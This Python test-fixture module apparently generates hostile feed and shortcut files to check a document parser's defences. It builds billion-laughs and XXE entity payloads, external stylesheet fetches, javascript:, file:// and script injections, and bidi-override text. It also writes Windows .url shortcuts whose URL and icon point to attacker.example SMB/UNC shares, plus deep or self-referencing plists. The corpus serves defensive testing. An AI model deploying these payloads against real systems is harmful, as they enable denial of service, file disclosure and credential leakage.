"""RSS and Atom with entities and bombs; links that lead to files and programs."""

import plistlib
import struct

from corpus import EITHER, STORY, given

from cases.office_files import LAUGHS, entity

TEXT = " ".join(STORY * 4)


def rss(items, head=""):
    """A feed with those items."""
    return f'{head}<rss version="2.0"><channel><title>Courier</title>{items}</channel></rss>'


def item(text, title="Port reopens", link="https://courier.example/1"):
    """An entry."""
    return (
        f"<item><title>{title}</title><link>{link}</link><description>{text}</description></item>"
    )


given(
    "laughs.rss",
    "entities that unfold to gigabytes",
    "damaged",
    rss(item("&l9;"), f"<!DOCTYPE r [{LAUGHS}]>"),
)
given("late-laughs.rss", "the same behind a long comment, in an attribute", EITHER,
      rss(item("&l9;") + f'<item a="&l9;"><title>x</title><description>{TEXT}</description></item>',
          f"<!--{'x' * 3_000}--><?p {'y' * 70_000}?><!DOCTYPE r [{LAUGHS}]>"))  # fmt: skip
given(
    "entity.rss",
    "an entity that is the secret",
    "damaged",
    lambda a: rss(item(f"&e; {TEXT}"), entity(a)),
)
given("late-entity.rss", "the same behind a long comment", EITHER,
      lambda a: rss(item(f"&e; {TEXT}"), f"<!--{'x' * 70_000}-->{entity(a)}"))  # fmt: skip
given("stylesheet.rss", "a style sheet on a server", "article",
      lambda a: rss(item(TEXT), f'<?xml version="1.0"?><?xml-stylesheet href="{a.server}/x.xsl" type="text/xsl"?>'), holds="Varna")  # fmt: skip
given("links.rss", "entries that lead to scripts and files", "article",
      lambda a: rss(item(TEXT, link="javascript:alert(1)") + item(TEXT, link=a.secret.as_uri())), never=("javascript:", "file://"))  # fmt: skip
given("reversed.rss", "a title and a text with letters that turn the line round", "article",
      rss(item("\u202e".join(STORY * 6), title="Port \u202ereopens")), holds="Varna", never=("\u202e",))  # fmt: skip
given("second.rss", "a moment whose second has eighty digits", "article",
      rss(item(TEXT).replace("<link>", f"<pubDate>Mon, 02 Mar 2026 01:02:{'9' * 80} GMT</pubDate><link>")), holds="Varna")  # fmt: skip
given("many.rss", "100,000 entries", EITHER, rss(item("x") * 100_000))
given("deep.rss", "100,000 elements inside each other", EITHER, rss("<a>" * 100_000))
given("pages.rss", "an entry whose text is a monster of a page", EITHER,
      rss(item("&lt;div&gt;" * 60_000 + TEXT) + item(TEXT)))  # fmt: skip
given("source.atom", "content that lies elsewhere", EITHER,
      lambda a: f'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>x</title><content src="{a.secret.as_uri()}" type="text/html"/>'
                f"<summary>{TEXT}</summary></entry></feed>")  # fmt: skip
given("scripts.atom", "scripts in XHTML", "article",
      '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>x</title><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
      f"<script>alert(1)</script><p>{TEXT}</p></div></content></entry></feed>", never=("alert(1)",))  # fmt: skip

LINKS = {
    "file": lambda a: a.secret.as_uri(),
    "share": lambda _: "smb://attacker.example/share",
    "unc": lambda _: "\\\\attacker.example\\share",
    "script": lambda _: "javascript:alert(1)",
    "data": lambda _: "data:text/html,<p>Hello</p>",
}
for kind, address in LINKS.items():
    given(f"{kind}.url", f"a shortcut to {kind}", "link",
          lambda a, address=address: f"[InternetShortcut]\r\nURL={address(a)}\r\nIconFile=\\\\attacker.example\\i.ico\r\n")  # fmt: skip
    given(
        f"{kind}.webloc",
        f"a link of macOS to {kind}",
        "link",
        lambda a, address=address: plistlib.dumps({"URL": address(a)}),
    )
given(
    "server.url",
    "a link to a server, which is not called",
    "only a link",
    lambda a: f"[InternetShortcut]\nURL={a.server}/x\n",
)
given("laughs.webloc", "a property list with entities", EITHER,
      f'<?xml version="1.0"?><!DOCTYPE plist [{LAUGHS}]><plist><dict><key>URL</key><string>&l9;</string></dict></plist>')  # fmt: skip
given("deep.webloc", "a property list 5,000 deep", "link",
      "<plist>" + "<dict><key>URL</key>" * 1_500 + "</dict>" * 1_500 + "</plist>")  # fmt: skip


def _binary_list(objects, count):
    offsets, at = b"", 8
    for one in objects:
        offsets += struct.pack(">B", at)
        at += len(one)
    return b"bplist00" + b"".join(objects) + offsets + struct.pack(">6xBBQQQ", 1, 1, count, 0, at)


given(
    "circle.webloc",
    "a binary property list that contains itself",
    "link",
    _binary_list([b"\xa1\x00"], 1),
)
given(
    "huge.webloc",
    "a binary property list of 2^40 objects",
    "link|damaged",
    _binary_list([b"\xa1\x00"], 1 << 40),
)
